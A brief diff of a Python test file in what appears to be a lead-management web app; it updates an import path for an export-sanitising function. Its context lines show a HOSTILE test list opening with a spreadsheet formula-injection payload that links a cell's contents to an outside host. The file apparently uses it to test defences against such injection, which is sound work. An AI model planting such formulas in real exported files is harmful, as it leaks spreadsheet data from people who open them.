@@ -17,7 +17,7 @@ from agency.storage.models import AuditEntry, Lead, Stage
 from agency.storage.unit import OpenUnit
 from tests.factories import MONDAY, a_cv, a_lead
 from tests.web.desk.people import Browser, Office, a_token
-from web.desk.exports_files import harmless
+from web.desk.exports.files import harmless
 
 HOSTILE = [
     '=HYPERLINK("https://example.org/?"&A1,"Click")',
